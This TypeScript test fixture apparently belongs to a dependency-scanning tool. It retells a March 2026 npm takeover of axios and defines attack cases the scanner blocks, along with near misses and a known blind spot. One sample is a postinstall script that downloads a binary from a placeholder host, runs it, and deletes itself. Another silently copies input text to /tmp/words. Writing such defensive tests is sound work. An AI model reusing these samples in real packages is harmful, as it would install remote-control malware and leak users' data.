import { dependency, type Incident } from '../../support/incident.ts';

const index = `exports.get = async (url) => (await fetch(url)).text();\n`;
const loads = (name: string, version: string): { readonly dependencies: Readonly<Record<string, string>> } => ({
  dependencies: { [name]: version },
});
const plain = {
  'index.js': 'exports.hash = (text) => require("crypto").createHash("sha256").update(text).digest("hex");\n',
};

export const incident: Incident = {
  title: 'A patch release with one dependency more',
  happened: `On 31 March 2026 the npm account of the lead maintainer of axios was taken over, and 1.14.1 and 0.30.4 were
published. Nothing in their code had changed; package.json named one package more, plain-crypto-js, named to be taken for
crypto-js. A harmless version of it had been published the day before. The next one ran a script after installation, which fetched
a remote control program for the user's system. The releases were out for about three hours. Described by the axios maintainers,
StepSecurity and Socket.`,
  server: 'fetcher',
  approved: { files: { 'index.js': index } },
  attacks: [
    {
      title: 'a dependency whose name is one typing mistake away from a well-known one',
      change: { package: loads('expresss', '1.0.0'), loads: [dependency('expresss', '1.0.0', plain)] },
      verdict: 'blocked',
      finds: ['block dependency-typosquat'],
    },
    {
      title: 'a dependency that was published the day before',
      change: {
        package: loads('plain-hashing', '4.2.1'),
        loads: [{ ...dependency('plain-hashing', '4.2.1', plain), publishedAt: '2026-11-18T22:00:00.000Z' }],
      },
      verdict: 'blocked',
      finds: ['block cooldown', 'block malware'],
    },
    {
      title: 'a dependency with a script that fetches a program when it is installed',
      change: {
        package: loads('plain-hashing', '4.2.1'),
        loads: [
          dependency(
            'plain-hashing',
            '4.2.1',
            {
              ...plain,
              'setup.js': `const { execFile } = require('child_process');
require('https').get('https://hashing.cdn.invalid/' + process.platform, (answer) => answer.pipe(require('fs').createWriteStream('/tmp/h')).on('finish', () => execFile('/tmp/h')));
require('fs').unlinkSync(__filename);
`,
            },
            { scripts: { postinstall: 'node setup.js' } },
          ),
        ],
      },
      verdict: 'blocked',
      finds: ['block install-script', 'block malware', 'review code-drops-program'],
    },
    {
      title: 'a dependency that is known to be malware',
      change: { package: loads('plain-hashing', '4.2.1'), loads: [dependency('plain-hashing', '4.2.1', plain)] },
      verdict: 'blocked',
      finds: ['block malware'],
    },
  ],
  advisories: [
    {
      schema_version: '1.7.0',
      id: 'MAL-2026-0001',
      modified: '2026-11-01T00:00:00Z',
      summary: 'Fetches a remote control program when it is installed.',
      affected: [{ package: { ecosystem: 'npm', name: 'plain-hashing' }, versions: ['4.2.1'] }],
    },
  ],
  nearMisses: [
    {
      title: 'a dependency that has had its name for years, although it is close to another one',
      change: {
        package: loads('expresss', '1.0.1'),
        loads: [
          { ...dependency('expresss', '1.0.0', plain), publishedAt: '2021-01-01T00:00:00.000Z' },
          { ...dependency('expresss', '1.0.1', plain), publishedAt: '2023-01-01T00:00:00.000Z' },
        ],
      },
      verdict: 'may be merged',
      finds: [],
    },
    {
      title: 'a dependency that is some weeks old and does nothing else',
      change: { package: loads('text-folding', '2.0.0'), loads: [dependency('text-folding', '2.0.0', plain)] },
      verdict: 'may be merged',
      finds: [],
      shown: 'text-folding',
    },
  ],
  unseen: [
    {
      title: 'a dependency that waited for some weeks, with harm in plain code',
      change: {
        package: loads('text-folding', '2.0.0'),
        loads: [
          dependency('text-folding', '2.0.0', {
            'index.js': `exports.fold = (text) => {
  require('fs').appendFileSync('/tmp/words', text);
  return text.toLowerCase();
};
`,
          }),
        ],
      },
      verdict: 'may be merged',
      finds: [],
      shown: 'text-folding',
      defence:
        'the page lists the new package with the number of its lines; others look as well while the cooldown runs',
    },
  ],
  limit:
    'An attacker who waits. The cooldown keeps out what others find within days, and nothing that nobody has found.',
};
